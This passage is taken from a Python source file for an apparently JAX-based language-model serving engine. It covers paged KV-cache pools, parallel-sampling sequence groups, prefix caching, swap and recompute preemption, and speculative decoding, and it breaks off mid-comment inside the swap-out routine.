  jitted decode step (``cow_src``/``cow_dst`` index arrays, scratch-block
  no-ops when nothing is shared);
* block tables, positions, input tokens, active masks and temperatures are
  device-resident, patched with small host→device writes only for rows
  that changed (admission / preemption / prefill completion); positions
  and token feedback advance on-device;
* ``step()`` dispatches the decode asynchronously and fetches its sampled
  tokens at the *start of the next step* (deferred harvest), so host-side
  work overlaps device compute.  ``self.cache`` must never be re-read
  after being passed to a donating executable — it is reassigned to the
  executable's output immediately, and all cache reads happen inside the
  jitted functions.

Engines built with ``fast_path=False`` use the original eager step loop —
kept bit-for-bit as the reference implementation for the equivalence tests
and the ``engine_step_bench`` speedup baseline, for every family: the
fast-vs-eager matrix covers GQA, Mamba2/SSD, hybrid, MLA and
cross-attention models.

Sequence groups (DESIGN.md §"Parallel sampling"): one request is a
:class:`SequenceGroup` of 1..``best_of`` sequences.  The group is admitted
as a unit (the leader plus one reserved slot per child), the prompt is
prefilled **once** by the leader, and at prefill completion the children
``fork`` — their block tables alias every prompt block, refcounted, with
copy-on-write on the first divergent write (which folds into the jitted
decode as ``cow_src``/``cow_dst``) — and draw their first tokens from the
leader's prefill logits under their own PRNG streams.  Every sequence
samples from a per-sequence position-keyed stream (``sampling.py``), so a
child preempted mid-decode — recompute or swap flavour — resumes
bit-identically, and a child preempted *before* the fork simply prefills
on its own (mostly prefix-cache hits on the leader's registered blocks)
and re-derives the identical first token.  With prefix caching on, a
child's swap-out classifies the registered shared prompt blocks as
"cached" (re-looked-up at resume, never offloaded); only unregistered
blocks — the divergent tail, or everything when caching is off — pay
host slots.  Group lifecycle (per-child
finish, preemption of a partially-finished group, abort) is centralized
on the group object; ``best_of`` ranking uses the per-sequence cumulative
logprob the decode step returns alongside each sampled token.
"""
from __future__ import annotations

import bisect
import dataclasses
import itertools
import time
from dataclasses import dataclass, field
from enum import Enum
from functools import partial
from typing import Optional

import jax
import jax.numpy as jnp
import numpy as np
from jax.sharding import NamedSharding, PartitionSpec

from repro.models import forward, init_cache, logits_last, param_defs
from repro.models.config import ModelConfig
from repro.models.model import KIND_CROSS, KIND_PAGED, KIND_STATE, \
    cache_defs, cache_leaf_specs, logits_all
from repro.models.params import SERVE_RULES, TP_CACHE_RULES, is_def, \
    shardings, spec_for, tp_mesh_scope, tree_map_defs
from repro.serving.kv_cache import BlockManager, OutOfBlocks
from repro.serving.sampling import SamplingParams, sample_rows, \
    sequence_seed, verify_rows
from repro.serving.speculative import DraftProvider, NgramDraftProvider

# top_logprobs surface: the decode executables export this many (logprob,
# token) pairs per sampled position when any batched request asked for
# them; requests slice their own k <= TOP_LOGPROBS_K.  Static so the
# do_topk flag adds at most one executable variant, never one per k.
TOP_LOGPROBS_K = 5

# kv_dtype flag value -> cache-def dtype tag (resolved by _leaf_dtype)
KV_DTYPES = {"bf16": "kv:bf16", "fp8_e4m3": "kv:fp8_e4m3",
             "int8": "kv:int8"}


class ReqState(str, Enum):
    WAITING = "waiting"
    RUNNING = "running"
    SWAPPED = "swapped"      # preempted with KV offloaded to the host pool
    FINISHED = "finished"


@dataclass
class EngineRequest:
    req_id: int
    prompt: np.ndarray                   # [S] int32
    params: SamplingParams
    state: ReqState = ReqState.WAITING
    slot: int = -1
    output: list[int] = field(default_factory=list)
    preemptions: int = 0                 # both flavours
    swap_preemptions: int = 0            # of which swapped, not recomputed
    t_submit: float = 0.0
    t_first_token: Optional[float] = None
    t_finish: Optional[float] = None
    cache_salt: str = ""                 # prefix-cache isolation key
    cached_tokens: int = 0               # prefix-cache hits at last admit
    prefill_pos: int = 0                 # tokens prefilled in current run
    prefill_target: int = 0              # tokens to prefill in current run
    # sequence-group membership (parallel sampling)
    group_id: int = 0                    # the group this sequence belongs to
    child_idx: int = 0                   # 0 = leader, 1.. = forked children
    seq_seed: int = 0                    # per-sequence PRNG stream id
    cum_logprob: float = 0.0             # sum of chosen-token logprobs
    token_logprobs: list[float] = field(default_factory=list)
    #                                      per-token logprobs, parallel to
    #                                      output (API logprobs surface)
    top_logprobs: list = field(default_factory=list)
    #                                      per-token [(token, logprob), ...]
    #                                      top-k slices, parallel to output;
    #                                      populated only when
    #                                      params.top_logprobs > 0
    state_len: int = 0                   # tokens integrated into per-slot
    #                                      recurrent state (== num_filled
    #                                      after every commit phase; the
    #                                      swap checkpoint records it)
    drafted_tokens: int = 0              # speculative drafts verified
    accepted_tokens: int = 0             # of which accepted (committed)
    wait_fork: bool = False              # child holding a slot, waiting for
    #                                      the leader's prefill to fork from
    truncated: bool = False              # finished by OutOfBlocks bow-out,
    #                                      not by its own stop condition
    paused: bool = False                 # backpressure: consumer lagging,
    #                                      sit out of decode/admission

    @property
    def total_len(self) -> int:
        return len(self.prompt) + len(self.output)

    @property
    def prefilling(self) -> bool:
        return self.state == ReqState.RUNNING and \
            self.prefill_pos < self.prefill_target

    @property
    def decodable(self) -> bool:
        return self.state == ReqState.RUNNING and \
            not self.prefilling and not self.wait_fork and not self.paused


@dataclass
class SequenceGroup:
    """One request's 1..best_of sequences and their shared lifecycle.

    The leader (``requests[0]``) exists from submit; children are created
    when the group is *admitted* (each bound to a reserved slot so the
    fork can never stall on slot pressure) and acquire their block tables
    when the leader's prefill completes (``forked``).  Child request ids
    are reserved at submit time so preemption ordering — which compares
    submission-ordered ids — treats the whole group as one request.
    """
    group_id: int
    n: int
    best_of: int
    seed_base: object                     # PRNG stream root (see sampling)
    requests: list = field(default_factory=list)   # leader first
    reserved_ids: list = field(default_factory=list)  # child req ids
    children_created: bool = False        # slots bound at admission
    forked: bool = False                  # block tables shared, tokens dealt
    aborted: bool = False

    @property
    def finished(self) -> bool:
        """All sequences done — and all of them *exist*: an unforked
        group with children still to be created is never finished."""
        if not (self.children_created or self.aborted):
            return False
        return all(r.state == ReqState.FINISHED for r in self.requests)

    def best(self, k: int) -> list:
        """The ``k`` sequences with the highest cumulative logprob,
        best first (ties broken by child order, so greedy duplicates
        keep a stable ranking).  Sequences the engine had to truncate
        (OutOfBlocks bow-out) rank behind every complete one — a short
        forced cut has a deceptively high raw cumulative logprob."""
        return sorted(self.requests,
                      key=lambda r: (r.truncated, -r.cum_logprob,
                                     r.child_idx))[:k]


def _paged_cache_defs(cfg: ModelConfig, n_slots: int, max_len: int,
                      num_blocks: int, block_size: int,
                      kv_dtype: Optional[str] = None):
    """Cache defs where every KIND_PAGED leaf becomes a global block pool
    (per-slot state and cross-attention leaves pass through unchanged).
    With a quantized ``kv_dtype`` each pool gains a sibling
    ``*_scale_pool`` holding one f32 scale per token row — the model's
    scatter/gather helpers quantize/dequantize through it."""
    import dataclasses as dc
    defs = cache_defs(cfg, n_slots, max_len)
    quantized = kv_dtype in ("fp8_e4m3", "int8")

    def fix(d):
        if not isinstance(d, dict):
            return d
        out = {}
        for k, v in d.items():
            if is_def(v) and v.kind == KIND_PAGED:
                # [B, S, *feat] -> pool [NB+1, bs, *feat] (+1 scratch)
                stacked = v.dims[0] == "layers"
                if stacked:
                    pool_shape = (v.shape[0], num_blocks + 1, block_size,
                                  *v.shape[3:])
                    dims = ("layers", "kv_blocks",
                            "kv_block_size") + v.dims[3:]
                else:
                    pool_shape = (num_blocks + 1, block_size, *v.shape[2:])
                    dims = ("kv_blocks", "kv_block_size") + v.dims[2:]
                tag = KV_DTYPES[kv_dtype] if kv_dtype else v.dtype
                out[k + "_pool"] = dc.replace(v, shape=pool_shape,
                                              dims=dims, dtype=tag)
                if quantized:
                    nscale = 3 if stacked else 2
                    out[k + "_scale_pool"] = dc.replace(
                        v, shape=pool_shape[:nscale], dims=dims[:nscale],
                        dtype="kv_scale")
            elif is_def(v):
                out[k] = v
            else:
                out[k] = fix(v)
        return out
    return fix(defs)


def _leaf_dtype(tag: str, dtype):
    """Resolve a cache-def dtype tag to the concrete array dtype.  State
    and quantization scales are always f32 (exactness / range); ``kv:*``
    tags pin the pool to the operator-chosen KV dtype."""
    if tag in ("state", "kv_scale"):
        return jnp.float32
    if tag == "kv:bf16":
        return jnp.bfloat16
    if tag == "kv:fp8_e4m3":
        return jnp.float8_e4m3fn
    if tag == "kv:int8":
        return jnp.int8
    return dtype


def _shape_buckets(step: int, cap: int) -> list[int]:
    """Padded-length buckets: powers-of-two multiples of ``step`` plus the
    exact cap — every prefill piece compiles to one of these shapes."""
    cap = max(-(-cap // step) * step, step)
    out = []
    b = step
    while b < cap:
        out.append(b)
        b *= 2
    out.append(cap)
    return out


def _bucket_for(buckets: list[int], n: int) -> int:
    for b in buckets:
        if n <= b:
            return b
    return buckets[-1]


def _top_logprobs(logits):
    """Top-K (logprob, token) export: full-vocab log-softmax in f32, then
    the K largest per row.  K is static (TOP_LOGPROBS_K) so the ``do_topk``
    flag adds one executable variant, never one per requested k."""
    lp = jax.nn.log_softmax(logits.astype(jnp.float32), axis=-1)
    return jax.lax.top_k(lp, TOP_LOGPROBS_K)


class Engine:
    def __init__(self, cfg: ModelConfig, params, *,
                 max_num_seqs: int = 4,
                 max_model_len: int = 512,
                 block_size: int = 16,
                 num_blocks: Optional[int] = None,
                 dtype=jnp.float32,
                 seed: int = 0,
                 clock=None,
                 enable_prefix_caching: bool = True,
                 prefill_chunk_size: Optional[int] = None,
                 fast_path: bool = True,
                 swap_blocks: Optional[int] = None,
                 swap_space_bytes: int = 0,
                 spec_draft_len: int = 0,
                 kv_dtype: Optional[str] = None,
                 draft_provider: Optional[DraftProvider] = None,
                 mesh=None,
                 tp: Optional[int] = None):
        self.cfg = cfg
        # --- tensor-parallel placement (DESIGN.md §Tensor-parallel serving)
        if mesh is not None and "tensor" not in mesh.shape:
            raise ValueError("Engine mesh must carry a 'tensor' axis "
                             "(use launch.mesh.make_tp_mesh)")
        mesh_tp = int(mesh.shape["tensor"]) if mesh is not None else 1
        if tp is not None and int(tp) != mesh_tp:
            raise ValueError(
                f"tp={tp} disagrees with the mesh tensor axis ({mesh_tp})")
        if mesh_tp == 1:
            mesh = None          # tp=1 is exactly the un-meshed code path
        if mesh is not None and not fast_path:
            raise ValueError("tensor parallelism needs fast_path=True; the "
                             "eager loop is the tp-free reference")
        self.mesh = mesh
        self.tp = mesh_tp
        if mesh is not None:
            # weights shard at rest and are gathered on use inside the
            # layer bodies (params.py §deterministic TP) — except MoE
            # expert weights, whose einsums batch over the expert dim
            params = jax.device_put(
                params, shardings(param_defs(cfg), mesh, SERVE_RULES))
        self.params = params
        self.n_slots = max_num_seqs
        self.max_model_len = max_model_len
        # every token-addressed cache (GQA KV *and* MLA latents) is paged;
        # only attention-free (pure-SSM) models have nothing to page
        self.paged = not cfg.is_attention_free
        if kv_dtype is not None and kv_dtype not in KV_DTYPES:
            raise ValueError(
                f"kv_dtype must be one of {sorted(KV_DTYPES)}, "
                f"got {kv_dtype!r}")
        self.kv_dtype = kv_dtype if self.paged else None
        self.block_size = block_size
        # prefix caching / chunked prefill need pure block-structured GQA
        # state: SSM/conv states and cross-attn caches are not paged (and
        # can't restart mid-prompt), and vision inputs are not captured by
        # the token-id prefix keys
        structural_ok = (self.paged and not cfg.has_ssm
                         and not cfg.cross_attention
                         and not cfg.vision_embed_dim)
        self.prefix_caching = enable_prefix_caching and structural_ok
        if prefill_chunk_size is not None and structural_ok:
            # chunks must cover whole blocks so chunk boundaries stay
            # block-aligned for the pool gather; chunking works with
            # caching disabled — it only needs the paged pool
            self.prefill_chunk: Optional[int] = max(
                -(-prefill_chunk_size // block_size) * block_size,
                block_size)
        else:
            self.prefill_chunk = None
        if num_blocks is None:
            num_blocks = max_num_seqs * (max_model_len // block_size)
        self.max_blocks_per_seq = max_model_len // block_size
        self.dtype = dtype
        self.clock = clock
        self.seed = seed                 # root of the per-request streams
        self._ids = itertools.count(1)
        self.requests: dict[int, EngineRequest] = {}
        self.groups: dict[int, SequenceGroup] = {}
        # per-group incremental token sinks: sink(child_idx, token_id)
        # fires from _append — the single choke point both the async
        # harvest fast path and the eager reference loop go through
        self._sinks: dict[int, object] = {}
        self.waiting: list[int] = []
        self.running: list[int] = []     # req ids, oldest first
        self.swapped: list[int] = []     # swapped-out req ids, re-admit order
        self._slots: list[Optional[int]] = [None] * max_num_seqs
        self.steps = 0
        self.decode_tokens = 0
        self.prefill_tokens_computed = 0
        self.preemptions_total = 0       # both flavours, lifetime

        if self.paged:
            defs = _paged_cache_defs(cfg, max_num_seqs, max_model_len,
                                     num_blocks, block_size, kv_dtype)
        else:
            defs = cache_defs(cfg, max_num_seqs, max_model_len)
        # the per-leaf cache contract: every scheduling decision below
        # (fast path, swap policy, fork, spec decode) keys on the declared
        # leaf kinds, never on tree-shape sniffing
        self._defs = defs
        self._specs = cache_leaf_specs(defs)
        if self.mesh is not None:
            # stamp per-leaf TP geometry into the cache contract: the
            # BlockManager's view stays purely logical (one block table,
            # one free list), but its byte accounting — and capabilities()
            # — can divide by `shards` to report *per-device* block bytes
            self._specs = _annotate_tp_specs(self._specs, defs, self.mesh)
        kinds = {s.kind for s in self._specs.values()}
        self._has_state = KIND_STATE in kinds
        self._has_cross = KIND_CROSS in kinds
        self._per_slot = self._has_state or self._has_cross
        self.pool_only = self.paged and not self._per_slot

        self.fast = bool(fast_path)
        # Swap-based preemption offloads the paged pools by block; a
        # per-slot recurrent state rides along as one opaque host record
        # (checkpointed at preemption, written back at resume).  The
        # eager reference prefill resumes block-aligned, which would
        # re-integrate tokens into an SSM state — so state models swap
        # only under the fast path's exact-offset resume.  Size the host
        # pool in blocks, from bytes when the operator gave --swap-space.
        if swap_blocks is None:
            bb = _pool_block_bytes(defs, dtype) if self.paged else 0
            swap_blocks = int(swap_space_bytes // bb) if bb else 0
        self.swap_enabled = bool(swap_blocks) and self.paged and (
            self.fast or not self._has_state)
        self.bm = BlockManager(
            num_blocks, block_size,
            enable_prefix_caching=self.prefix_caching,
            num_host_blocks=swap_blocks if self.swap_enabled else 0,
            leaf_specs=self._specs)

        if self.mesh is not None:
            # paged pools shard over kv_heads; everything else (per-slot
            # state, cross K/V, scale sidecars, MLA latents) replicates.
            # Outputs of every jitted step are constrained back to these
            # shardings so donation holds and the executable's input
            # sharding — part of the jit cache key — never drifts.
            self._cache_ns = _tp_cache_shardings(defs, self.mesh)
            self._dev_ns = NamedSharding(self.mesh, PartitionSpec())
            self.cache = jax.tree.map(
                lambda d, ns: jax.device_put(
                    jnp.zeros(d.shape, _leaf_dtype(d.dtype, dtype)), ns),
                defs, self._cache_ns, is_leaf=is_def)
        else:
            self._cache_ns = None
            self._dev_ns = None
            self.cache = tree_map_defs(
                lambda d: jnp.zeros(d.shape, _leaf_dtype(d.dtype, dtype)),
                defs)
        # opaque per-slot state checkpoints of swapped-out sequences:
        # req_id -> (numpy KIND_STATE leaf tree, state_len at capture)
        self._host_state: dict[int, tuple] = {}
        if self.swap_enabled:
            # host-side mirror of the pool leaves, swap_blocks rows deep;
            # gather/scatter executables are bucketed on block count like
            # the prefill shapes, so swaps never retrace per count
            self._host_pool = _mk_host_pool(self.cache, swap_blocks)
            self._swap_buckets = _shape_buckets(
                1, max(self.max_blocks_per_seq, 1))
            self._swap_gather_fn = jax.jit(_pool_gather_rows)
            if self.mesh is not None:
                # pin the scatter's output cache to the resident pool
                # shardings: the donated buffers must round-trip with an
                # unchanged layout or the next decode retraces
                cns = self._cache_ns

                def _scatter_tp(cache, rows, idx):
                    out = _pool_scatter_rows(cache, rows, idx)
                    return jax.tree.map(jax.lax.with_sharding_constraint,
                                        out, cns)
                self._swap_scatter_fn = jax.jit(_scatter_tp,
                                                donate_argnums=(0,))
            else:
                self._swap_scatter_fn = jax.jit(_pool_scatter_rows,
                                                donate_argnums=(0,))
        # swap-in restores are *batched*: every victim re-admitted in the
        # same step appends its (host slot, device block) pairs here and
        # one bucketed scatter flushes them before the next model call
        self._restore_pending: list[tuple[int, int]] = []
        self.swap_scatter_calls = 0
        # per-slot block tables; scratch block = num_blocks
        self._tables = np.full((max_num_seqs, self.max_blocks_per_seq),
                               num_blocks, np.int32)
        self._positions = np.zeros((max_num_seqs,), np.int32)

        self._pending = None             # in-flight async decode (fast path)
        # self-speculative decoding (DESIGN.md §"Speculative decoding"):
        # K drafts verified per dispatch in one q_len=K+1 executable.
        # Needs the jitted fast path — the eager loop stays the q_len=1
        # reference implementation the equivalence tests compare against —
        # and a pure paged-GQA cache: the MLA and cross-attention decode
        # branches have no S>1 verify form, and a recurrent state cannot
        # unwind rejected drafts.
        self._spec_ok = self.paged and not self._per_slot \
            and cfg.mla is None
        self.spec_draft_len = int(spec_draft_len) \
            if (self.fast and self._spec_ok) else 0
        self.draft_provider = draft_provider or (
            NgramDraftProvider() if self.spec_draft_len > 0 else None)
        self.spec_drafted_tokens = 0     # drafts sent to verification
        self.spec_accepted_tokens = 0    # of which committed
        self.spec_dispatches = 0         # decode dispatches that drafted
        # one prefill executable per (batch bucket, length bucket); the
        # length cap is the chunk size when chunking, else the longest
        # possible suffix.  Built for the eager path too: an SSM prefill
        # pads to the same bucket as the fast path so the chunked SSD
        # scan decomposes identically (bit-exact fast-vs-eager).
        cap = self.prefill_chunk or max_model_len
        self._len_buckets = _shape_buckets(block_size, cap)
        self._b_buckets = _shape_buckets(1, max_num_seqs)
        if self.fast:
            self._prefill_fn = jax.jit(partial(self._prefill_impl, cfg),
                                       donate_argnums=(1,))
            # do_cow / do_filter / do_topk are static: the no-COW
            # executable (the common case) contains no pool self-copy at
            # all — a traced copy would force XLA to materialize the
            # whole pool every step, since a buffer that is both gathered
            # from and scattered to cannot be updated in place — the
            # plain k=0/p=1 sampler skips the per-row sort-based
            # top-k/top-p masking, and the no-topk executable carries no
            # vocab-wide top_k.  Worst case this is 2x2x2 decode
            # executables.
            self._decode_fn = jax.jit(partial(self._decode_fast_impl, cfg),
                                      donate_argnums=(1,),
                                      static_argnums=(12, 13, 14))
            # the q_len=K+1 bucket: verify up to K drafts per row in one
            # call.  Dispatched only on steps where some row actually
            # drafted — draft-free steps run the unchanged q_len=1
            # executable, so speculation off is bit-and-trace-identical
            # to the pre-speculation engine.
            if self.spec_draft_len > 0:
                self._spec_fn = jax.jit(partial(self._spec_decode_impl, cfg),
                                        donate_argnums=(1,),
                                        static_argnums=(14, 15, 16))
            # device-resident step state + host mirrors of device contents;
            # dispatch patches only rows whose mirror differs
            nb = num_blocks
            self._dev = {
                "tokens": jnp.zeros((max_num_seqs, 1), jnp.int32),
                "positions": jnp.zeros((max_num_seqs,), jnp.int32),
                "tables": jnp.full((max_num_seqs, self.max_blocks_per_seq),
                                   nb, jnp.int32),
                "active": jnp.zeros((max_num_seqs,), bool),
                "temps": jnp.zeros((max_num_seqs,), jnp.float32),
                "seeds": jnp.zeros((max_num_seqs,), jnp.uint32),
                "top_ks": jnp.zeros((max_num_seqs,), jnp.int32),
                "top_ps": jnp.ones((max_num_seqs,), jnp.float32),
            }
            self._mirror = {k: np.array(v) for k, v in self._dev.items()}
            if self.mesh is not None:
                # the jitted steps trace under the tensor-mesh scope so
                # the layer-body gather constraints bind; step state is
                # committed replicated so host patching stays cheap
                self._prefill_fn = _TpScoped(self._prefill_fn, self.mesh)
                self._decode_fn = _TpScoped(self._decode_fn, self.mesh)
                if self.spec_draft_len > 0:
                    self._spec_fn = _TpScoped(self._spec_fn, self.mesh)
                self._dev = {k: jax.device_put(v, self._dev_ns)
                             for k, v in self._dev.items()}
        else:
            self._decode_fn = jax.jit(partial(self._decode_core, cfg),
                                      static_argnums=(10, 11))

    # ------------------------------------------------------------------
    def _now(self) -> float:
        return self.clock.now() if self.clock else time.monotonic()

    def submit(self, prompt, params: SamplingParams | None = None, *,
               cache_salt: str = "") -> int:
        """Submit one request — a sequence *group* of ``params.best_of``
        sequences (1 for plain requests).  Returns the leader's request
        id; the group is reachable via :meth:`group_of`."""
        params = params or SamplingParams()
        prompt = np.asarray(prompt, np.int32)
        if prompt.ndim != 1 or len(prompt) == 0:
            raise ValueError("prompt must be a non-empty 1-D token sequence")
        need = len(prompt) + params.max_new_tokens
        if need > self.max_model_len:
            raise ValueError(
                f"request needs {need} tokens (prompt {len(prompt)} + "
                f"max_new_tokens {params.max_new_tokens}) but max_model_len "
                f"is {self.max_model_len}")
        best_of = params.num_seqs
        if not 1 <= params.n <= best_of:
            raise ValueError(
                f"need 1 <= n <= best_of, got n={params.n} "
                f"best_of={best_of}")
        if best_of > 1 and not self.paged:
            raise ValueError(
                "parallel sampling (best_of > 1) needs the paged KV cache "
                "(forked sequences share prompt blocks by reference)")
        if best_of > self.n_slots:
            raise ValueError(
                f"best_of={best_of} exceeds max_num_seqs={self.n_slots}: "
                "the whole group must fit in one decode batch")
        rid = next(self._ids)
        # the stream root: a client seed makes the group reproducible
        # across engines; otherwise derive from (engine seed, req id)
        base = f"req/{params.seed}" if params.seed is not None \
            else f"auto/{self.seed}/{rid}"
        r = EngineRequest(rid, prompt, params, t_submit=self._now(),
                          cache_salt=cache_salt, group_id=rid,
                          seq_seed=sequence_seed(base, 0))
        g = SequenceGroup(group_id=rid, n=params.n, best_of=best_of,
                          seed_base=base, requests=[r],
                          # reserve submission-ordered ids for the
                          # children now: preemption priority compares
                          # ids, and the group is one request
                          reserved_ids=[next(self._ids)
                                        for _ in range(best_of - 1)],
                          children_created=best_of == 1)
        self.requests[rid] = r
        self.groups[rid] = g
        self.waiting.append(rid)
        return rid

    def group_of(self, req_id: int) -> SequenceGroup:
        """The sequence group a request id belongs to."""
        return self.groups[self.requests[req_id].group_id]

    def add_sink(self, group_id: int, sink) -> None:
        """Register an incremental token sink for a group: called as
        ``sink(child_idx, token_id)`` for every token any of the group's
        sequences appends (including each child's first forked token).
        Deregistered automatically when the group finishes or aborts."""
        self._sinks[group_id] = sink

    def abort_group(self, group_id: int) -> None:
        """Cancel every unfinished sequence of a group, whatever its
        state — running (blocks freed), waiting (dequeued), swapped
        (host slots released) or still waiting for its fork."""
        g = self.groups[group_id]
        g.aborted = True
        self._sinks.pop(group_id, None)
        for r in list(g.requests):
            if r.state != ReqState.FINISHED:
                r.wait_fork = False
                self._finish(r)

    def pause_group(self, group_id: int) -> None:
        """Backpressure: take the group's sequences out of the decode
        batch and the admission queues (they keep their slots and
        blocks) until :meth:`resume_group`.  The consumer lagging on one
        stream must not stall anyone else's tokens."""
        for r in self.groups[group_id].requests:
            if r.state != ReqState.FINISHED:
                r.paused = True

    def resume_group(self, group_id: int) -> None:
        for r in self.groups[group_id].requests:
            r.paused = False

    # ----- scheduling -----

    def _free_slot(self) -> Optional[int]:
        for i, s in enumerate(self._slots):
            if s is None:
                return i
        return None

    def _admit(self) -> Optional[EngineRequest]:
        """Admit the head of the queue: bind a slot, allocate blocks (taking
        references on any cached prefix instead of copying), and queue the
        prefill — the suffix actually runs in ``step()`` so long prompts can
        be chunked between decode iterations.

        Swapped-out sequences are re-admitted *before* any cold WAITING
        work, and strictly in queue order: admitting new work past a
        swapped sequence would hand it the very blocks the swap victim is
        waiting for and could starve it indefinitely.  The one thing that
        outranks the swapped head is an *older* request at the waiting
        head — under mixed-policy pressure (host pool filled up midway)
        an older victim recompute-preempts after a younger one swapped,
        and preemption must never invert submission order on the way back
        in.  Request ids are submission-ordered, so the comparison is the
        id itself; a cold request can never carry a smaller id than a
        sequence that was already admitted once."""
        slot = self._free_slot()
        if slot is None:
            return None
        # paused (backpressured) sequences sit out of admission without
        # blocking whoever queued behind them: admit the oldest
        # *unpaused* head of each queue, keeping the id-order comparison
        wi = next((i for i, rid in enumerate(self.waiting)
                   if not self.requests[rid].paused), None)
        si = next((i for i, rid in enumerate(self.swapped)
                   if not self.requests[rid].paused), None)
        if si is not None and not (
                wi is not None and self.waiting[wi] < self.swapped[si]):
            return self._admit_swapped(slot, si)
        if wi is None:
            return None
        rid = self.waiting[wi]
        r = self.requests[rid]
        g = self.groups.get(r.group_id)
        # a not-yet-admitted group needs a slot per child too — reserved
        # *now*, so the fork at prefill completion can never stall on
        # slot pressure (children alias the leader's blocks, so no extra
        # block pressure is added at admission)
        extra_slots = 0
        if g is not None and r.child_idx == 0 and not g.children_created:
            extra_slots = g.best_of - 1
            if sum(s is None for s in self._slots) < 1 + extra_slots:
                return None
        # re-prefill includes previously generated tokens (recompute policy)
        need = r.total_len
        token_ids = None
        if self.prefix_caching:
            token_ids = [int(t) for t in r.prompt] + list(r.output)
        cached = 0
        if self.paged:
            # attempt-and-catch: allocate raises before mutating anything,
            # and this way the prefix walk happens once, not twice
            try:
                blocks = self.bm.allocate(rid, need, token_ids=token_ids,
                                          salt=r.cache_salt or None,
                                          prompt_tokens=len(r.prompt))
            except OutOfBlocks:
                return None
            cached = self.bm.cached_tokens(rid)
        self.waiting.pop(wi)
        r.state = ReqState.RUNNING
        r.slot = slot
        self._slots[slot] = rid
        self.running.append(rid)
        if self.paged:
            self._tables[slot, :] = self.bm.num_blocks   # scratch
            self._tables[slot, :len(blocks)] = blocks
        r.cached_tokens = cached
        r.prefill_pos = cached
        r.state_len = cached
        r.prefill_target = need
        self._positions[slot] = need - 1
        if extra_slots:
            self._create_children(g, r)
        return r

    def _create_children(self, g: SequenceGroup, leader: EngineRequest) \
            -> None:
        """Bind the group's children to their reserved slots.  They hold
        no blocks yet — their block tables arrive at the fork, when the
        leader's prefill completes — and sit out of the decode batch
        (``wait_fork``) until then."""
        g.children_created = True
        for i, cid in enumerate(g.reserved_ids, start=1):
            slot = self._free_slot()
            assert slot is not None, "admission reserved too few slots"
            c = EngineRequest(cid, leader.prompt, leader.params,
                              state=ReqState.RUNNING, slot=slot,
                              t_submit=leader.t_submit,
                              cache_salt=leader.cache_salt,
                              group_id=g.group_id, child_idx=i,
                              seq_seed=sequence_seed(g.seed_base, i),
                              wait_fork=True)
            self.requests[cid] = c
            self._slots[slot] = cid
            self.running.append(cid)
            g.requests.append(c)

    def _admit_swapped(self, slot: int,
                       idx: int = 0) -> Optional[EngineRequest]:
        """Re-admit the head of the swapped queue: re-reference what the
        prefix cache still holds, scatter the host-offloaded blocks back
        into fresh device blocks, and resume prefill at the first token
        whose KV is *not* already resident — usually the single in-flight
        token, not the whole generation (the point of swapping)."""
        rid = self.swapped[idx]
        r = self.requests[rid]
        need = r.total_len
        token_ids = None
        if self.prefix_caching:
            token_ids = [int(t) for t in r.prompt] + list(r.output)
        try:
            blocks, restores, filled, cached = self.bm.swap_in(
                rid, need, token_ids=token_ids)
        except OutOfBlocks:
            return None
        self.swapped.pop(idx)
        r.state = ReqState.RUNNING
        r.slot = slot
        self._slots[slot] = rid
        self.running.append(rid)
        self._tables[slot, :] = self.bm.num_blocks   # scratch
        self._tables[slot, :len(blocks)] = blocks
        # defer the host→device copy: every victim re-admitted this step
        # batches into one bucketed scatter, flushed before the next
        # model call (nothing reads the restored rows, or reuses the
        # freed host slots, until then — swap_out only runs from the
        # model-call phase, after the flush)
        self._restore_pending.extend(restores)
        r.cached_tokens = cached
        if self._has_state:
            rec = self._host_state.pop(rid, None)
            if rec is not None and rec[1] == filled:
                self._write_slot_state(slot, rec[0])
                r.state_len = filled
                self.bm.swap_stats.state_records_in += 1
            else:
                # defensive: no checkpoint at exactly the restored KV
                # length — replay the whole sequence from zero
                # (state_reset rebuilds the state bit-exactly; the
                # restored blocks are simply re-scattered)
                filled = 0
                r.state_len = 0
                self.bm.swap_stats.state_records_dropped += 1
        # the eager reference prefill requires a block-aligned start; the
        # traced fast path resumes at the exact filled offset (its scatter
        # addresses absolute positions) — both re-scatter identical values
        # over any restored rows they revisit
        r.prefill_pos = filled if self.fast else \
            (filled // self.block_size) * self.block_size
        r.prefill_target = need
        self._positions[slot] = need - 1
        return r

    def _choose_victim(self, requester: int) -> Optional[int]:
        """Preemption victim among sequences *younger* than the requester
        (recompute preemption must never invert priority — and a younger
        victim is always later in the decode batch, so its not-yet-applied
        results are skipped by the state check).  Prefer the youngest
        fully-prefilled one: preempting a sequence mid-chunked-prefill
        throws away chunks it already computed.  Fall back to the youngest
        outright; None when the requester has nobody to steal from."""
        i = self.running.index(requester)
        younger = self.running[i + 1:]
        for rid in reversed(younger):
            r = self.requests[rid]
            if not r.prefilling and not r.wait_fork:
                return rid
        return younger[-1] if younger else None

    def _preempt(self, rid: int) -> None:
        """Preemption policy: swap the victim's KV out to the host pool
        when one is configured and has room, recompute-preempt otherwise.
        Both flavours free the victim's device blocks for the requester."""
        r = self.requests[rid]
        r.preemptions += 1
        self.preemptions_total += 1
        if self._try_swap_out(r):
            return
        self._evict(r)
        # a child preempted while waiting for its fork re-prefills on its
        # own when re-admitted (mostly prefix-cache hits on the leader's
        # registered blocks) and re-derives the same first token from its
        # per-sequence stream — so it stops being a fork candidate
        r.wait_fork = False
        r.state = ReqState.WAITING
        self.waiting.insert(0, rid)

    # ----- swap-based preemption: host offload / restore -----

    def _try_swap_out(self, r: EngineRequest) -> bool:
        """Offload ``r``'s non-shared KV blocks to the host pool and park
        it in SWAPPED.  False when swap is off or the host pool is full —
        the caller falls back to recompute preemption."""
        if not self.swap_enabled or r.wait_fork:
            # a fork-waiting child owns no blocks: nothing to offload
            return False
        plan = self.bm.swap_out(r.req_id)   # frees the device blocks
        if plan is None:
            return False
        dev_blocks, host_slots = plan
        if dev_blocks:
            # gather happens before the requester can claim-and-write the
            # freed blocks (same dispatch stream, same host thread)
            self._swap_offload(dev_blocks, host_slots)
        if self._has_state:
            # checkpoint the per-slot recurrent state as ONE opaque host
            # record while the slot is still bound; state_len records how
            # many tokens it has integrated (== num_filled, so the resume
            # prefill starts exactly past it)
            self._host_state[r.req_id] = (
                self._gather_slot_state(r.slot), r.state_len)
            self.bm.swap_stats.state_records_out += 1
        self.running.remove(r.req_id)
        self._slots[r.slot] = None
        self._tables[r.slot, :] = self.bm.num_blocks
        r.slot = -1
        r.state = ReqState.SWAPPED
        r.swap_preemptions += 1
        # keep the queue in submission (id) order: victims are usually
        # preempted youngest-first, but chunked prefill can skip the
